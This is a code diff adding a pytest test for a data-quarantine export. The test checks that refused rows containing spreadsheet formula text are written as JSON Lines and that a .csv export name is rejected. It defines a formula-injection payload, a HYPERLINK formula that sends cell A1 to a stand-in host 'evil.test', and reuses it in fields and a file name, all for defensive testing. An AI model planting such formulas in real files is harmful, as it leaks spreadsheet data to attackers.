@@ -11,8 +11,9 @@ import pyarrow.parquet as pq
 import pytest
 
 from fsl.data.batches import BatchRecord, read_history
+from fsl.data.errors import NoExportName
 from fsl.data.mending import load_open
-from fsl.data.quarantine import group_by_reason, load_refused, save_export
+from fsl.data.quarantine import Reason, RefusedRow, group_by_reason, load_refused, save_export
 from fsl.store.objects import ObjectStore
 
 Ingest = Callable[..., BatchRecord]
@@ -131,3 +132,25 @@ def test_a_mended_row_of_csv_or_parquet_clears_as_well(
     ingest("mended.csv", f"text,label,_row\n你好,greeting,{again.row_id}\n".encode())
 
     assert len(load_open(store, read_history(store)).rows) == n_before - 2
+
+
+FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"click")'
+
+
+def test_a_formula_is_exported_as_it_came_where_no_spreadsheet_takes_it_for_one(tmp_path: Path) -> None:
+    reasons = (Reason("unreadable", f"@SUM({FORMULA})"),)
+    rows = [
+        RefusedRow(1, json.dumps({"text": FORMULA, "+1": "-1"}), FORMULA, 5, reasons, f"{FORMULA}.jsonl:1", "0" * 32),
+        RefusedRow(2, FORMULA, None, None, reasons, "a.csv:2", "1" * 32),
+    ]
+
+    save_export(rows, tmp_path / "mend.jsonl")
+
+    lines = (tmp_path / "mend.jsonl").read_text().splitlines()
+    assert [line[:1] for line in lines] == ["{", "{"]
+    assert json.loads(lines[0])["text"] == FORMULA
+    with pytest.raises(
+        NoExportName, match=r"mend\.csv would hold JSON Lines.*no spreadsheet takes a text for a formula"
+    ):
+        save_export(rows, tmp_path / "mend.csv")
+    assert not (tmp_path / "mend.csv").exists()
